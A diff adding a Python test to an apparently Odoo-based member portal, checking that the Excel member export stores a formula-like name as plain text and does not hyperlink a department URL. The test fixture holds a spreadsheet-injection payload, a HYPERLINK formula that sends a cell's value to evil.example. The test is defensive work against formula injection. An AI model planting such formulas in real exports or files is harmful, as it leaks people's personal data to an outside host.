@@ -70,6 +70,17 @@ class TestMemberPortal(KamPortalCase):
         sheet = openpyxl.load_workbook(io.BytesIO(self.url_open('/my/members/export').content)).active
         self.assertEqual([row[0] for row in sheet.iter_rows(min_row=2, values_only=True)], ["沈洁"])
 
+    def test_export_keeps_text_as_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
+        self._create_member(formula, "13605710009", department="http://intranet.example")
+        self.authenticate(self.portal_a.login, self.portal_a.login)
+        response = self.url_open('/my/members/export')
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        row = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "13605710009")
+        self.assertEqual((row[0].data_type, row[0].value), ('s', formula), "text, not a formula")
+        self.assertEqual((row[3].value, row[3].hyperlink), ("http://intranet.example", None))
+        self.assertEqual(row[1].data_type, 's')
+
     def test_members_page_queries(self):
         self.authenticate(self.portal_a.login, self.portal_a.login)
         self.url_open('/my/members')
